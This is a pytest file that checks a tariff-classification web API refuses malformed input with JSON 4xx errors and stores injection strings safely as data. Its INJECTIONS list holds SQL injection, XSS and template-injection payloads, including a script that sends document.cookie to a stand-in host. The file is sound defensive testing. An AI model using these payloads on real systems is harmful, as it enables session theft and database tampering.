"""Hand-written bad input through the real app: every refusal is a JSON 4xx `{"error", "detail"}`, never a 5xx.

Blank and huge descriptions, bodies that are not UTF-8, binary files and 10,001-row CSVs as batches, codes that
are not codes (and codes with dots and spaces, which are accepted and normalised), and injection strings, which
are stored and returned as data and escaped on the web pages.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from markupsafe import escape

T_SHIRT = "Men's T-shirt, 100% cotton, knitted jersey, short sleeves"


def assert_json_4xx(r, status: int | tuple[int, ...], error: str | None = None) -> dict:
    statuses = status if isinstance(status, tuple) else (status,)
    assert r.status_code in statuses, (r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith("application/json")
    body = r.json()
    assert isinstance(body["error"], str) and isinstance(body["detail"], str) and body["detail"]
    assert "Traceback" not in r.text
    if error:
        assert body["error"] == error, body
    return body


@pytest.fixture
def api(make_api):
    return make_api()


# ---------------------------------------------------------------- descriptions


@pytest.mark.parametrize("blank", ["", " ", "   \t\n  ", "\u00a0\u3000", "\r\n", "\u200b\u200b", "\ufeff "])
def test_blank_descriptions_are_refused(api, blank):
    for path, body in (("/v1/classifications", {"description": blank}),
                       ("/v1/batches", {"items": [{"description": T_SHIRT}, {"description": blank}]})):
        assert_json_4xx(api.post(path, "broker", json=body), 422, "invalid_input")
    case = api.post("/v1/classifications", "broker", json={"description": T_SHIRT}).json()
    assert_json_4xx(api.post(f"/v1/classifications/{case['id']}/info", "broker", json={"text": blank}), 422)


def test_a_one_megabyte_description_is_refused_with_its_limit(api):
    huge = "cotton shirt " * 80_000  # 1,040,000 characters: under the body limit, over the description limit
    body = assert_json_4xx(api.post("/v1/classifications", "broker", json={"description": huge}), 422)
    assert "limit is 20000" in body["detail"] and huge[:200] not in json.dumps(body)  # not echoed back
    assert_json_4xx(api.post("/v1/batches", "broker", json={"items": [{"description": huge}]}), 422)
    case = api.post("/v1/classifications", "broker", json={"description": T_SHIRT}).json()
    assert_json_4xx(api.post(f"/v1/classifications/{case['id']}/info", "broker", json={"text": huge}), 422)
    over = "x" * 2_100_000  # over max_request_bytes: refused before it is read
    assert_json_4xx(api.post("/v1/classifications", "broker", json={"description": over}), 413, "too_large")


@pytest.mark.parametrize("raw", [
    b'{"description": "caf\xe9 cr\xe8me"}',  # Latin-1
    b'{"description": "\xff\xfe\x00s\x00h\x00i\x00r\x00t"}',  # UTF-16 bytes
    b'\xef\xbb\xbf{"description": "\xc3\x28"}',  # an invalid two-byte sequence after a BOM
    b"\x80\x81\x82",
])
def test_a_body_that_is_not_utf8_is_refused(api, raw):
    r = api.post("/v1/classifications", "broker", content=raw, headers={"Content-Type": "application/json"})
    assert_json_4xx(r, (400, 422))


# ---------------------------------------------------------------- batches


BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


@pytest.mark.parametrize("how", ["multipart", "text/csv"])
def test_a_binary_file_as_a_csv_batch_is_refused(api, how):
    if how == "multipart":
        r = api.post("/v1/batches", "broker", files={"file": ("goods.csv", BINARY, "text/csv")})
    else:
        r = api.post("/v1/batches", "broker", content=BINARY, headers={"Content-Type": "text/csv"})
    body = assert_json_4xx(r, 422, "invalid_input")
    assert "CSV" in body["detail"]
    nul_but_utf8 = b"description\ncotton\x00shirt\n"
    r = api.post("/v1/batches", "broker", files={"file": ("goods.csv", nul_but_utf8, "text/csv")})
    assert_json_4xx(r, 422)
    assert api.get("/v1/classifications", "broker").json()["total"] == 0  # nothing was stored


def test_a_csv_of_10001_rows_is_refused_as_too_large(api):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["description", "reference"])
    w.writerows([f"Cotton T-shirt, lot {i}", f"R{i}"] for i in range(10_001))
    data = buf.getvalue().encode()
    assert len(data) < api.desk.settings.max_request_bytes  # refused for its rows, not its bytes
    for r in (api.post("/v1/batches", "broker", files={"file": ("goods.csv", data, "text/csv")}),
              api.post("/v1/batches", "broker", content=data, headers={"Content-Type": "text/csv"})):
        body = assert_json_4xx(r, 413, "too_large")
        assert "1000" in body["detail"].replace(",", "")
    items = [{"description": f"Cotton T-shirt, lot {i}"} for i in range(1_001)]
    assert_json_4xx(api.post("/v1/batches", "broker", json={"items": items}), 413, "too_large")
    assert api.get("/v1/classifications", "broker").json()["total"] == 0


# ---------------------------------------------------------------- codes


@pytest.mark.parametrize("code", ["abcd", "61O9", "6109.1x", "six", "0x61", "6109/10", "61 09 1", "12345678901"])
def test_codes_that_are_not_digits_are_refused(api, code):
    assert_json_4xx(api.get(f"/v1/codes/{code}", "broker"), (404, 422))
    r = api.post("/v1/classifications", "broker", json={"description": T_SHIRT, "declared_code": code})
    assert_json_4xx(r, 422, "invalid_input")
    r = api.post("/v1/batches", "broker", json={"items": [{"description": T_SHIRT, "declared_code": code}]})
    assert_json_4xx(r, 422, "invalid_input")
    case = api.post("/v1/classifications", "broker", json={"description": T_SHIRT}).json()
    for action in ("confirm", "override"):
        r = api.post(f"/v1/classifications/{case['id']}/decisions", "officer",
                     json={"action": action, "code": code, "reason": "checked"})
        assert_json_4xx(r, 422, "invalid_input")
    assert api.get(f"/v1/classifications/{case['id']}", "broker").json()["status"] == "pending_review"


@pytest.mark.parametrize("typed, digits", [("6109.10", "610910"), ("6109 10", "610910"), (" 61.09.10 ", "610910"),
                                           ("6109-90", "610990"), ("61.09", "6109")])
def test_codes_with_dots_and_spaces_are_accepted_and_normalised(api, typed, digits):
    line = api.get(f"/v1/codes/{typed}", "broker")
    assert line.status_code == 200 and line.json()["code"] == digits
    found = api.get("/v1/codes", "broker", params={"prefix": typed.strip(), "limit": 5}).json()["items"]
    assert found and all(item["code"].startswith(digits) for item in found)
    case = api.post("/v1/classifications", "broker", json={"description": T_SHIRT, "declared_code": typed})
    assert case.status_code == 201 and case.json()["declared_code"] == digits
    batch = api.post("/v1/batches", "broker", json={"items": [{"description": T_SHIRT, "declared_code": typed}]})
    assert batch.status_code == 202
    if len(digits) == 6:  # a declarable line: an officer may type it with dots
        r = api.post(f"/v1/classifications/{case.json()['id']}/decisions", "officer",
                     json={"action": "override", "code": typed, "reason": "knitted, of cotton"})
        assert r.status_code == 201 and r.json()["final_code"] == digits and r.json()["final_display"] != digits


# ---------------------------------------------------------------- injection strings are data

INJECTIONS = [
    "Robert'); DROP TABLE cases; --",
    "' OR '1'='1' -- cotton shirt",
    "1; DELETE FROM api_keys WHERE 1=1",
    "<script>alert('xss')</script> cotton T-shirt",
    '"><img src=x onerror=alert(1)> leather bag',
    "</textarea><svg onload=alert(document.cookie)>",
    "{{ 7*7 }} {% raw %} ${7*7} jinja cotton",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_are_stored_and_returned_as_data(make_api, database_url, text):
    api = make_api(database_url=database_url)
    r = api.post("/v1/classifications", "broker", json={"description": text, "reference": text[:200],
                                                        "context": [text]})
    assert r.status_code == 201, r.text
    case = r.json()
    assert (case["description"], case["reference"], case["context"]) == (text, text[:200], [text])
    decided = api.post(f"/v1/classifications/{case['id']}/decisions", "officer",
                       json={"action": "reject", "reason": text})
    assert decided.status_code == 201 and decided.json()["decisions"][0]["reason"] == text
    again = api.get(f"/v1/classifications/{case['id']}", "admin").json()
    assert again["description"] == text and again["decisions"][0]["reason"] == text
    listed = api.get("/v1/classifications", "broker").json()
    assert listed["total"] == 1 and listed["items"][0]["description"] == text  # every table is still there
    assert len(api.get("/v1/keys", "admin").json()) == 3

    officer = api.browser("officer")
    page = officer.get(f"/cases/{case['id']}")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    html = page.text
    assert text not in html or "<" not in text  # never verbatim when it holds markup
    assert str(escape(text)) in html  # shown, HTML-escaped (as Jinja's autoescape writes it)
    assert "<img src=x" not in html and "<svg onload" not in html
    assert_scripts_are_inert(html)
    chat = api.browser("broker").get("/chat", params={"case": case["id"]})
    assert chat.status_code == 200 and case["id"] in chat.text
    assert "<script>alert" not in chat.text and "</script><script>fetch" not in chat.text
    assert_scripts_are_inert(chat.text)


def assert_scripts_are_inert(html: str) -> None:
    """Every <script> element is either an external script or a JSON data block with no markup inside."""
    for attrs, body in re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.DOTALL | re.IGNORECASE):
        if body.strip():
            assert 'type="application/json"' in attrs, attrs
            assert "<" not in body and ">" not in body  # a "</script>" in the data could not end the block
            json.loads(body)
        else:
            assert "src=" in attrs, attrs


# ---------------------------------------------------------------- NUL, which no PostgreSQL column can hold


def test_nul_is_refused_by_every_field_that_takes_text(api):
    """Each field refuses NUL before it reaches the database or a query (issue 17: "NUL refused everywhere");
    descriptions, references, batch items and the web chat have their own tests."""
    case = api.post("/v1/classifications", "broker", json={"description": T_SHIRT}).json()
    csv_body = {"content": b"d\nWood screws\n", "headers": {"Content-Type": "text/csv"}}
    refused = {
        "decision reason": api.post(f"/v1/classifications/{case['id']}/decisions", "officer",
                                    json={"action": "reject", "reason": "vague\x00"}),
        "information": api.post(f"/v1/classifications/{case['id']}/info", "broker", json={"text": "oak\x00"}),
        "key name": api.post("/v1/keys", "admin", json={"name": "Bea\x00", "role": "officer"}),
        "key organisation": api.post("/v1/keys", "admin", json={"name": "Bea", "role": "broker", "org": "ac\x00me"}),
        "webhook organisation": api.post("/v1/webhooks", "admin",
                                         json={"org": "ac\x00me", "url": "https://example.com/hook"}),
        "webhook URL": api.post("/v1/webhooks", "admin", json={"org": "acme", "url": "https://exa\x00mple.com/hook"}),
        "code search": api.get("/v1/codes?q=cot%00ton", "broker"),
        "passage search": api.get("/v1/search?q=cot%00ton", "broker"),
        "CSV column name": api.post("/v1/batches?description_column=d%00", "broker", **csv_body),
        **{f"queue filter {f}": api.get(f"/v1/review/queue?{f}=a%00", "officer")
           for f in ("q", "org", "requester", "assignee")},
    }
    for what, r in refused.items():
        assert r.status_code == 422, (what, r.status_code, r.text[:200])
        assert_json_4xx(r, 422, "invalid_input")
    officer = api.browser("officer")  # the officer's web form and the queue page's filters
    token = re.search(r'name="csrf-token" content="([^"]+)"', officer.get(f"/cases/{case['id']}").text).group(1)
    r = officer.post(f"/cases/{case['id']}/decide", data={"action": "reject", "reason": "vague\x00", "csrf_token": token})
    assert r.status_code == 422 and 'role="alert"' in r.text
    assert officer.get("/queue?q=a%00").status_code == 422
    assert api.get(f"/v1/classifications/{case['id']}", "broker").json()["status"] == "pending_review"
    assert api.get("/v1/webhooks", "admin").json() == []
